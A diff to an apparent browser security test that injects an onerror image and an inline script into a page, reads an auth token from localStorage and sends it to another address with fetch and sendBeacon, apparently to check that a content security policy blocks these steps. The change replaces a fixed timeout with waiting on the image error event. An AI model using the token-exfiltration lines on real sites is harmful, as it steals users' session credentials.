@@ -14,13 +14,18 @@ const attack = (page: Page, elsewhere: string) =>
     );
     const place = document.body.appendChild(document.createElement('div'));
     place.innerHTML = '<img src="/cms/nothing.png" onerror="window.ran = true">';
+    const tried = new Promise((resolve) =>
+      place.querySelector('img')!.addEventListener('error', resolve),
+    );
     const script = document.createElement('script');
     script.textContent = 'window.ran = true';
     place.append(script);
     const token = localStorage.getItem('auth_token');
     await fetch(`${address}/?${token}`, { mode: 'no-cors' }).catch(() => {});
     navigator.sendBeacon(`${address}/?${token}`);
-    await new Promise((resolve) => setTimeout(resolve, 500));
+    await tried;
+    // Violations are told in tasks of their own, in their order.
+    await new Promise((resolve) => setTimeout(resolve));
     place.remove();
     return { ran: 'ran' in window, blocked: [...new Set(blocked)].toSorted(), token };
   }, elsewhere);
